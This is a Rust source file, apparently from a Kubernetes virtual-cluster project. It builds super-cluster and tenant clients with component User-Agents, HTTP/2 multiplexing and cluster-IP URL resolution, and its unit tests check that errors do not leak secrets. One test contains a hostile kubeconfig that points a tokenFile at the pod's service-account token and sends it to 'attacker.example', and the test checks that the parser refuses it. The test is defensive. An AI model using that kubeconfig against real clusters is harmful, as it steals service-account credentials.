//! Kubernetes clients: the super cluster's, and tenants' from kubeconfig Secrets. Every client built here
//! names its component in its User-Agent ([`user_agent`]), as kubectl and client-go do, so that audit logs and
//! API Priority and Fairness tell the components' requests apart.

use std::{sync::OnceLock, time::Duration};

use kube::{Client, Config, config::KubeConfigOptions};

use crate::Error;

/// The component this process runs, set once by its `main` ([`identify`]).
static COMPONENT: OnceLock<String> = OnceLock::new();

/// Names the component this process runs (`vc-manager`, `syncer`, `vn-agent`, `vc-dns`, `kubectl-vc`) in
/// every client's User-Agent. The first call wins; without one the executable's file name is used.
pub fn identify(component: &str) {
    let _ = COMPONENT.set(component.to_owned());
}

/// `<component>/<version> (<os>/<arch>) virtualcluster-rs`, the shape of kubectl's
/// (`kubectl/v1.33.3 (linux/amd64) kubernetes/80779bd`).
pub fn user_agent() -> String {
    let component = COMPONENT.get().cloned().unwrap_or_else(|| {
        std::env::args_os()
            .next()
            .and_then(|path| {
                std::path::Path::new(&path)
                    .file_name()
                    .map(|n| n.to_string_lossy().into_owned())
            })
            .filter(|name| !name.is_empty())
            .unwrap_or_else(|| "virtualcluster-rs".to_owned())
    });
    let arch = match std::env::consts::ARCH {
        "x86_64" => "amd64",
        "aarch64" => "arm64",
        other => other,
    };
    format!(
        "{component}/{} ({}/{arch}) virtualcluster-rs",
        env!("CARGO_PKG_VERSION"),
        std::env::consts::OS
    )
}

/// Sets the User-Agent of every request of a client built from `config` to [`user_agent`] (replacing one
/// the config had).
pub fn with_user_agent(config: &mut Config) {
    let name = http::header::USER_AGENT;
    config.headers.retain(|(header, _)| header != name);
    if let Ok(value) = http::HeaderValue::from_str(&user_agent()) {
        config.headers.push((name, value));
    }
}

/// The super-cluster client: from `KUBECONFIG` (or `~/.kube/config`) out of cluster, from the pod's service
/// account in cluster (kube's `Config::infer`).
pub async fn super_cluster() -> Result<Client, Error> {
    let mut config = Config::infer().await.map_err(Error::SuperClusterConfig)?;
    with_user_agent(&mut config);
    Client::try_from(config).map_err(Error::Client)
}

/// The super-cluster client (as [`super_cluster`]) over one HTTP/2 connection ([`multiplexed_client`]):
/// every watch and request of a busy component shares it, where kube's HTTP/1.1 client keeps a TLS
/// connection (and its buffers) for every request that was ever in flight at once. A config that names a
/// proxy gets kube's client, which knows how to use one.
pub async fn super_cluster_multiplexed() -> Result<Client, Error> {
    let mut config = Config::infer().await.map_err(Error::SuperClusterConfig)?;
    with_user_agent(&mut config);
    if config.proxy_url.is_some() {
        return Client::try_from(config).map_err(Error::Client);
    }
    let timeouts = ClientTimeouts {
        connect: config.connect_timeout.unwrap_or(SUPER_CONNECT_TIMEOUT),
        read: config.read_timeout.unwrap_or(SUPER_READ_TIMEOUT),
    };
    multiplexed_client(config, timeouts)
}

/// kube's defaults, for a config that sets none: the super cluster is ours and is given long.
const SUPER_CONNECT_TIMEOUT: Duration = Duration::from_secs(30);
const SUPER_READ_TIMEOUT: Duration = Duration::from_secs(295);

/// Timeouts for clients of tenant apiservers, which may be slow or gone.
#[derive(Clone, Copy, Debug)]
pub struct ClientTimeouts {
    /// TCP/TLS connection.
    pub connect: Duration,
    /// Reading a response (watches get their own idle timeout from kube-runtime).
    pub read: Duration,
}

impl Default for ClientTimeouts {
    fn default() -> Self {
        Self {
            connect: Duration::from_secs(5),
            read: Duration::from_secs(30),
        }
    }
}

/// Parses a kubeconfig (YAML) into a client config for its current context. The kubeconfig must be plain
/// data ([`crate::kubeconfig::parse_inline`]): one that names a file, a program or a proxy is refused before
/// anything reads it.
pub async fn config_from_kubeconfig_yaml(yaml: &str, timeouts: ClientTimeouts) -> Result<Config, Error> {
    let kubeconfig = crate::kubeconfig::parse_inline(yaml)?;
    let mut config = Config::from_custom_kubeconfig(kubeconfig, &KubeConfigOptions::default())
        .await
        .map_err(|source| Error::Kubeconfig {
            what: "cannot be used",
            problem: crate::kubeconfig::without_content(&source),
        })?;
    config.connect_timeout = Some(timeouts.connect);
    config.read_timeout = Some(timeouts.read);
    with_user_agent(&mut config);
    Ok(config)
}

/// The URL that reaches `server` (`https://<service>.<namespace>.svc[.<domain>]:<port>`, the form vc-manager
/// writes into a native tenant's kubeconfigs) at its Service's cluster IP, read from the super cluster.
///
/// The components reach native tenants this way, not by cluster DNS: they then work wherever the super
/// cluster's service network is routed, inside the cluster or outside it, and do not depend on DNS.
/// `namespace` is the tenant's root namespace: a URL that names a Service elsewhere is refused. A URL of
/// another form (an IP address, a load balancer's name) is returned unchanged. The apiserver's serving
/// certificate carries the cluster IP, so TLS verification still holds.
pub async fn cluster_ip_url(super_client: &Client, server: &str, namespace: &str) -> Result<String, Error> {
    let problem = |problem: String| Error::ServiceAddress {
        server: server.to_owned(),
        problem,
        source: None,
    };
    let Some((service, service_namespace, port)) = service_of_url(server) else {
        return Ok(server.to_owned());
    };
    if service_namespace != namespace {
        return Err(problem(format!(
            "names a Service in namespace {service_namespace}, not in the tenant's root namespace {namespace}"
        )));
    }
    let found = kube::Api::<k8s_openapi::api::core::v1::Service>::namespaced(super_client.clone(), namespace)
        .get_opt(&service)
        .await
        .map_err(|source| Error::ServiceAddress {
            server: server.to_owned(),
            problem: format!("reading Service {namespace}/{service}"),
            source: Some(source),
        })?
        .ok_or_else(|| problem(format!("Service {namespace}/{service} does not exist")))?;
    let ip = found
        .spec
        .and_then(|s| s.cluster_ip)
        .filter(|ip| !ip.is_empty() && ip != "None")
        .ok_or_else(|| problem(format!("Service {namespace}/{service} has no cluster IP")))?;
    let host = match ip.contains(':') {
        true => format!("[{ip}]"),
        false => ip,
    };
    Ok(format!("https://{host}:{port}"))
}

/// `(service, namespace, port)` of `https://<service>.<namespace>.svc[.<domain>][:<port>][/]`.
fn service_of_url(server: &str) -> Option<(String, String, u16)> {
    let rest = server.strip_prefix("https://")?.trim_end_matches('/');
    if rest.contains('/') {
        return None;
    }
    let (host, port) = match rest.rsplit_once(':') {
        Some((host, port)) => (host, port.parse().ok()?),
        None => (rest, 443),
    };
    let mut labels = host.split('.');
    let service = labels.next()?;
    let namespace = labels.next()?;
    (labels.next()? == "svc" && !service.is_empty() && !namespace.is_empty())
        .then(|| (service.to_owned(), namespace.to_owned(), port))
}

/// How often a multiplexed client pings its apiserver, and how long it waits for the answer: a peer that
/// stops answering is found without a read timeout, which would also end idle watches.
const PING_INTERVAL: Duration = Duration::from_secs(30);
const PING_TIMEOUT: Duration = Duration::from_secs(10);

/// A client that reaches its apiserver over one HTTP/2 connection when the apiserver offers HTTP/2 (every
/// kube-apiserver does), HTTP/1.1 otherwise.
///
/// kube's own client speaks HTTP/1.1 only: each watch then holds a TLS connection of its own, so a tenant's
/// watches hold one connection per kind, and with `read` set, an idle watch (no event, no bookmark within
/// it) is cut and started again. Here every watch and request of the client are streams of one connection;
/// HTTP/2 pings find a dead peer, and `timeouts.read` bounds the wait for a response's headers (a watch's
/// come at once; its events may then be minutes apart).
pub fn multiplexed_client(config: Config, timeouts: ClientTimeouts) -> Result<Client, Error> {
    let (service, config) = multiplexed_service(config, timeouts)?;
    with_kube_layers(config, service)
}

/// The HTTP service of [`multiplexed_client`], before kube's layers.
#[allow(clippy::type_complexity)]
fn multiplexed_service(
    mut config: Config,
    timeouts: ClientTimeouts,
) -> Result<
    (
        impl tower::Service<
            http::Request<kube::client::Body>,
            Response = http::Response<hyper::body::Incoming>,
            Error = tower::BoxError,
            Future = impl std::future::Future<
                Output = Result<http::Response<hyper::body::Incoming>, tower::BoxError>,
            > + Send
                     + 'static,
        > + Clone
        + Send
        + 'static,
        Config,
    ),
    Error,
> {
    use kube::client::ConfigExt;
    use tower::ServiceExt;

    // The connector below holds the timeouts; kube's own would apply a read timeout to every watch.
    config.read_timeout = None;
    with_user_agent(&mut config);
    let mut tls = config.rustls_client_config().map_err(Error::Client)?;
    // The connector sets the protocols it offers (h2, http/1.1).
    tls.alpn_protocols.clear();
    let mut http = hyper_util::client::legacy::connect::HttpConnector::new();
    http.enforce_http(false);
    http.set_connect_timeout(Some(timeouts.connect));
    let mut https = hyper_rustls::HttpsConnectorBuilder::new()
        .with_tls_config(tls)
        .https_or_http();
    if let Some(name) = &config.tls_server_name {
        let name = rustls_pki_types::ServerName::try_from(name.clone()).map_err(|e| {
            Error::Client(kube::Error::RustlsTls(
                kube::client::RustlsTlsError::InvalidServerName(e),
            ))
        })?;
        https = https.with_server_name_resolver(hyper_rustls::FixedServerNameResolver::new(name));
    }
    let https = https.enable_http1().enable_http2().wrap_connector(http);
    let client: hyper_util::client::legacy::Client<_, kube::client::Body> =
        hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
            .timer(hyper_util::rt::TokioTimer::new())
            .http2_keep_alive_interval(Some(PING_INTERVAL))
            .http2_keep_alive_timeout(PING_TIMEOUT)
            .http2_keep_alive_while_idle(true)
            .build(https);
    let read = timeouts.read;
    let client = client.map_future(move |response| async move {
        match tokio::time::timeout(read, response).await {
            Ok(answered) => answered.map_err(tower::BoxError::from),
            Err(_) => Err(tower::BoxError::from(std::io::Error::new(
                std::io::ErrorKind::TimedOut,
                format!("no response within {}s", read.as_secs()),
            ))),
        }
    });
    Ok((client, config))
}

/// kube's own layers (base URI, retries, credentials, headers) around `service`, as a client.
fn with_kube_layers<S, B>(config: Config, service: S) -> Result<Client, Error>
where
    S: tower::Service<http::Request<kube::client::Body>, Response = http::Response<B>>
        + Clone
        + Send
        + 'static,
    S::Future: Send + 'static,
    S::Error: Into<tower::BoxError>,
    B: hyper::body::Body<Data = bytes::Bytes> + Send + 'static,
    B::Error: Into<tower::BoxError>,
{
    use kube::client::ConfigExt;
    use tower::{ServiceBuilder, ServiceExt};

    let service = ServiceBuilder::new()
        .layer(config.base_uri_layer())
        .option_layer(
            config
                .default_retry
                .then(|| tower::retry::RetryLayer::new(kube::client::retry::RetryPolicy::server_retry())),
        )
        .option_layer(config.auth_layer().map_err(Error::Client)?)
        .layer(config.extra_headers_layer().map_err(Error::Client)?)
        .service(service.map_err(Into::into));
    Ok(Client::new(service, config.default_namespace))
}

/// A client of a tenant apiserver: every response body held to `budget` ([`crate::limits`]), over one
/// HTTP/2 connection ([`multiplexed_client`]) or kube's HTTP/1.1 client.
pub fn tenant_client(
    config: Config,
    timeouts: ClientTimeouts,
    http2: bool,
    budget: std::sync::Arc<crate::limits::ResponseBudget>,
) -> Result<Client, Error> {
    let layer = crate::limits::ResponseLimitLayer::new(budget);
    let built = if http2 {
        multiplexed_service(config, timeouts)
            .and_then(|(service, config)| with_kube_layers(config, tower::Layer::layer(&layer, service)))
    } else {
        let mut config = config;
        config.connect_timeout = Some(timeouts.connect);
        config.read_timeout = Some(timeouts.read);
        kube::client::ClientBuilder::try_from(config)
            .map(|builder| builder.with_layer(&layer).build())
            .map_err(Error::Client)
    };
    // The kubeconfig is the tenant's: what kube says about its TLS material is not repeated.
    built.map_err(|error| match error {
        Error::Client(source) => Error::Kubeconfig {
            what: "cannot be used",
            problem: client_problem(&source).to_owned(),
        },
        other => other,
    })
}

/// Why kube could not build a client from a tenant's kubeconfig, without its content.
fn client_problem(error: &kube::Error) -> &'static str {
    match error {
        kube::Error::RustlsTls(_) => {
            "its TLS material (certificate authority, client certificate and key, server name) cannot be used"
        }
        _ => "no client can be built from it",
    }
}

/// The IP address a client's request was answered from: the peer its connection actually reached (a
/// host name may resolve to several addresses; only this one is the apiserver the component talks to).
pub fn peer_address<B>(response: &http::Response<B>) -> Option<std::net::IpAddr> {
    response
        .extensions()
        .get::<hyper_util::client::legacy::connect::HttpInfo>()
        .map(|info| info.remote_addr().ip())
}

/// Asks an apiserver for its version, and from which address it answered ([`peer_address`]).
pub async fn version_and_peer(
    client: &Client,
) -> Result<
    (
        k8s_openapi::apimachinery::pkg::version::Info,
        Option<std::net::IpAddr>,
    ),
    kube::Error,
> {
    let request = http::Request::get("/version")
        .body(kube::client::Body::empty())
        .map_err(kube::Error::HttpError)?;
    let response = client.send(request).await?;
    let peer = peer_address(&response);
    let status = response.status();
    let body = response.into_body().collect_bytes().await?;
    if !status.is_success() {
        let mut answer = serde_json::from_slice::<kube::core::Status>(&body).unwrap_or_default();
        answer.code = status.as_u16();
        if answer.message.is_empty() {
            answer.message = status.canonical_reason().unwrap_or("error").to_owned();
        }
        return Err(kube::Error::Api(Box::new(answer)));
    }
    let info = serde_json::from_slice(&body).map_err(kube::Error::SerdeError)?;
    Ok((info, peer))
}

/// A client for the current context of a kubeconfig (YAML).
pub async fn from_kubeconfig_yaml(yaml: &str, timeouts: ClientTimeouts) -> Result<Client, Error> {
    Client::try_from(config_from_kubeconfig_yaml(yaml, timeouts).await?).map_err(Error::Client)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn service_urls_are_recognised() {
        assert_eq!(
            service_of_url("https://apiserver-svc.team-a.svc:6443"),
            Some(("apiserver-svc".into(), "team-a".into(), 6443))
        );
        assert_eq!(
            service_of_url("https://apiserver-svc.team-a.svc.cluster.local/"),
            Some(("apiserver-svc".into(), "team-a".into(), 443))
        );
        assert_eq!(service_of_url("https://10.0.0.5:6443"), None);
        assert_eq!(service_of_url("https://tenant.example.com:6443"), None);
        assert_eq!(service_of_url("http://apiserver-svc.team-a.svc:6443"), None);
        assert_eq!(
            service_of_url("https://apiserver-svc.team-a.svc:6443/prefix"),
            None
        );
    }

    #[tokio::test]
    async fn kubeconfig_errors_say_what_is_wrong() {
        let error = from_kubeconfig_yaml("clusters: [unclosed", ClientTimeouts::default())
            .await
            .err()
            .expect("error");
        assert!(error.to_string().contains("not valid YAML"), "{error}");
        let no_context = "apiVersion: v1\nkind: Config\nclusters: []\nusers: []\ncontexts: []\n";
        let error = from_kubeconfig_yaml(no_context, ClientTimeouts::default())
            .await
            .err()
            .expect("error");
        assert!(error.to_string().contains("cannot be used"), "{error}");
    }

    /// Every way a kubeconfig can fail to parse or build a client, each with a recognisable marker where
    /// the parser stumbles: no error, its sources or its debug form repeats a byte of the marker.
    #[tokio::test]
    async fn no_kubeconfig_error_echoes_the_kubeconfig() {
        use base64::Engine;
        const MARKER: &str = "SECRETMARKER7f3a";
        let encoded = base64::engine::general_purpose::STANDARD.encode(MARKER);
        let pem = base64::engine::general_purpose::STANDARD.encode(format!(
            "-----BEGIN CERTIFICATE-----\n{MARKER}\n-----END CERTIFICATE-----\n"
        ));
        let key = base64::engine::general_purpose::STANDARD.encode(format!(
            "-----BEGIN PRIVATE KEY-----\n{MARKER}\n-----END PRIVATE KEY-----\n"
        ));
        let config = |cluster: &str, user: &str, context: &str| {
            format!(
                "apiVersion: v1\nkind: Config\nclusters: [{{name: c, cluster: {{{cluster}}}}}]\nusers: [{{name: u, user: {{{user}}}}}]\ncontexts: [{{name: x, context: {{cluster: c, user: u}}}}]\ncurrent-context: {context}\n"
            )
        };
        let server = "server: 'https://127.0.0.1:6443'";
        let cases = [
            MARKER.to_owned(),
            format!("{MARKER}: [unclosed"),
            format!("clusters: {MARKER}"),
            format!(
                "apiVersion: v1\nkind: Config\nclusters: [{{name: c, cluster: {{server: {MARKER}}}}}]\n\tcurrent-context: {MARKER}"
            ),
            config(server, "token: t", MARKER),
            config("server: 'https://{MARKER} x'", "token: t", "x"),
            config(
                &format!("{server}, certificate-authority-data: '{MARKER}!!'"),
                "token: t",
                "x",
            ),
            config(
                &format!("{server}, certificate-authority-data: {encoded}"),
                "token: t",
                "x",
            ),
            config(
                &format!("{server}, certificate-authority-data: {pem}"),
                "token: t",
                "x",
            ),
            config(
                server,
                &format!("client-certificate-data: {pem}, client-key-data: {key}"),
                "x",
            ),
            config(
                server,
                &format!("client-certificate-data: {encoded}, client-key-data: {encoded}"),
                "x",
            ),
            config(
                server,
                &format!("client-certificate-data: '{MARKER}%', client-key-data: '{MARKER}%'"),
                "x",
            ),
            config(
                &format!("server: 'https://127.0.0.1:6443', tls-server-name: '{MARKER} !'"),
                "token: t",
                "x",
            ),
        ];
        for yaml in &cases {
            let outcome = match config_from_kubeconfig_yaml(yaml, ClientTimeouts::default()).await {
                Err(error) => Some(error),
                Ok(config) => tenant_client(
                    config,
                    ClientTimeouts::default(),
                    true,
                    crate::limits::ResponseBudget::new(Default::default()),
                )
                .err(),
            };
            let Some(error) = outcome else {
                continue;
            };
            let mut told = format!("{error} {error:?}");
            let mut source = std::error::Error::source(&error);
            while let Some(cause) = source {
                told.push_str(&format!(" {cause} {cause:?}"));
                source = cause.source();
            }
            for fragment in [MARKER, &MARKER[..6], &MARKER[6..], &encoded[..8]] {
                assert!(!told.contains(fragment), "{yaml:?} is echoed: {told}");
            }
        }
    }

    #[tokio::test]
    async fn a_kubeconfig_that_reads_files_or_runs_programs_builds_no_client() {
        // The path of this process's own service-account token: a client built from this kubeconfig would
        // send it to the kubeconfig's server.
        let yaml = "apiVersion: v1
kind: Config
clusters: [{name: t, cluster: {server: 'https://attacker.example:6443'}}]
users: [{name: t, user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}}]
contexts: [{name: t, context: {cluster: t, user: t}}]
current-context: t
";
        let error = config_from_kubeconfig_yaml(yaml, ClientTimeouts::default())
            .await
            .expect_err("refused");
        assert!(
            matches!(&error, Error::KubeconfigRefused { field, .. } if field == "users[t].tokenFile"),
            "{error}"
        );
    }

    /// The head of the first request a client sends to `listener`, answered with an empty JSON object.
    async fn first_request_head(listener: tokio::net::TcpListener) -> String {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let (mut stream, _) = listener.accept().await.expect("a connection");
        let mut head = Vec::new();
        let mut buffer = [0u8; 1024];
        while !head.windows(4).any(|w| w == b"\r\n\r\n") {
            let n = stream.read(&mut buffer).await.expect("reading");
            assert!(n > 0, "the connection closed mid-request");
            head.extend_from_slice(&buffer[..n]);
        }
        let body = br#"{"major":"1","minor":"33","gitVersion":"v1.33.3","gitCommit":"","gitTreeState":"","buildDate":"","goVersion":"","compiler":"","platform":""}"#;
        let answer = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
            body.len()
        );
        let _ = stream.write_all(answer.as_bytes()).await;
        let _ = stream.write_all(body).await;
        String::from_utf8_lossy(&head).into_owned()
    }

    fn user_agents_in(head: &str) -> Vec<String> {
        head.lines()
            .filter_map(|line| line.split_once(':'))
            .filter(|(name, _)| name.eq_ignore_ascii_case("user-agent"))
            .map(|(_, value)| value.trim().to_owned())
            .collect()
    }

    /// Every client the components build (kube's, and the multiplexed one of the syncer) sends exactly one
    /// User-Agent naming the component, its version and platform.
    #[tokio::test]
    async fn every_client_names_its_component_in_its_user_agent() {
        identify("vc-test-component");
        let agent = user_agent();
        assert!(
            agent.starts_with(&format!("vc-test-component/{} (", env!("CARGO_PKG_VERSION"))),
            "{agent}"
        );
        assert!(agent.ends_with(") virtualcluster-rs"), "{agent}");
        for multiplexed in [false, true] {
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
            let url: http::Uri = format!("http://{}", listener.local_addr().expect("address"))
                .parse()
                .expect("url");
            let server = tokio::spawn(first_request_head(listener));
            let mut config = Config::new(url);
            // A header the kubeconfig or a caller set is replaced, not doubled.
            config.headers.push((
                http::header::USER_AGENT,
                http::HeaderValue::from_static("something-else"),
            ));
            with_user_agent(&mut config);
            let client = match multiplexed {
                true => multiplexed_client(config, ClientTimeouts::default()).expect("client"),
                false => Client::try_from(config).expect("client"),
            };
            let _ = client.apiserver_version().await;
            let head = server.await.expect("server");
            assert_eq!(
                user_agents_in(&head),
                std::slice::from_ref(&agent),
                "multiplexed {multiplexed}: {head}"
            );
        }
        // Tenant clients built from kubeconfigs carry it too.
        let yaml = "apiVersion: v1
kind: Config
clusters: [{name: t, cluster: {server: 'https://127.0.0.1:6443', insecure-skip-tls-verify: true}}]
users: [{name: t, user: {token: abc}}]
contexts: [{name: t, context: {cluster: t, user: t}}]
current-context: t
";
        let config = config_from_kubeconfig_yaml(yaml, ClientTimeouts::default())
            .await
            .expect("config");
        assert_eq!(
            config
                .headers
                .iter()
                .filter(|(name, _)| name == http::header::USER_AGENT)
                .map(|(_, value)| value.to_str().unwrap_or_default().to_owned())
                .collect::<Vec<_>>(),
            [agent]
        );
    }

    #[tokio::test]
    async fn a_token_kubeconfig_builds_a_client_with_timeouts() {
        let yaml = "apiVersion: v1
kind: Config
clusters: [{name: t, cluster: {server: 'https://127.0.0.1:6443', insecure-skip-tls-verify: true}}]
users: [{name: t, user: {token: abc}}]
contexts: [{name: t, context: {cluster: t, user: t}}]
current-context: t
";
        let config = config_from_kubeconfig_yaml(yaml, ClientTimeouts::default())
            .await
            .expect("config");
        assert_eq!(config.cluster_url.to_string(), "https://127.0.0.1:6443/");
        assert_eq!(config.connect_timeout, Some(Duration::from_secs(5)));
        assert!(
            from_kubeconfig_yaml(yaml, ClientTimeouts::default())
                .await
                .is_ok()
        );
    }
}
